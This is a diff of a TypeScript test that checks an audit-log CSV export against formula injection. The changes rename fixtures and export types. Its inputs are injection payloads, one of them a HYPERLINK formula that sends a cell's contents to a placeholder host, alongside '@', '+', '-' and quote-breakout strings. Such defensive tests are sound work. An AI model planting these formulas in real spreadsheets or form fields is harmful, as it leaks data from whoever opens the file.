@@ -5,27 +5,27 @@ import type { Check } from '../check.ts'
 /** What people type must not come to life in somebody else's spreadsheet. */
 export const exportChecks: readonly Check[] = [
   {
-    name: 'CSV injection: no cell of the exported trail begins as a formula, and no quote of a reason breaks out of its own',
-    async run({ ask, document, stage }) {
+    name: 'CSV injection: no cell of the exported log begins as a formula, and no quote of a reason breaks out of its own',
+    async run({ ask, document, fixtures }) {
       const typed = ['=HYPERLINK("http://x.example/?"&A1;"open")', '+992 37 221', '-2+3', '@SUM(1;2)', 'left","=1+1","']
       for (const [at, reason] of typed.entries()) {
         const email = `formula-${at}-${Date.now()}@canary.example`
         const day = new Date(Date.now() + 5 * 3_600_000).toISOString().slice(0, 10)
         const input = { email, label: `=${at}+1`, language: 'en', post: { role: 'observer', validFrom: day } }
-        const { data } = await ask(document('InvitePerson'), { input }, stage.administrator)
+        const { data } = await ask(document('InvitePerson'), { input }, fixtures.administrator)
         const personId = data?.invitePerson?.id
         assert.ok(personId, `nobody was invited: ${JSON.stringify(data)}`)
         const withdrawn = await ask(
           document('WithdrawInvitation'),
           { input: { personId, reason } },
-          stage.administrator,
+          fixtures.administrator,
         )
         assert.equal(withdrawn.data?.withdrawInvitation?.__typename, 'Person')
       }
       const filter = { action: 'invitation:withdraw' }
-      const { data } = await ask(document('ExportAuditTrail'), { filter }, stage.administrator)
-      const file = data?.exportAuditTrail
-      assert.equal(file?.__typename, 'AuditTrailFile')
+      const { data } = await ask(document('ExportAuditLog'), { filter }, fixtures.administrator)
+      const file = data?.exportAuditLog
+      assert.equal(file?.__typename, 'AuditLogFile')
       const rows: string[][] = parse(file.csv, { bom: true })
       assert.equal(rows.length, file.entries + 1)
       assert.ok(file.entries >= typed.length)
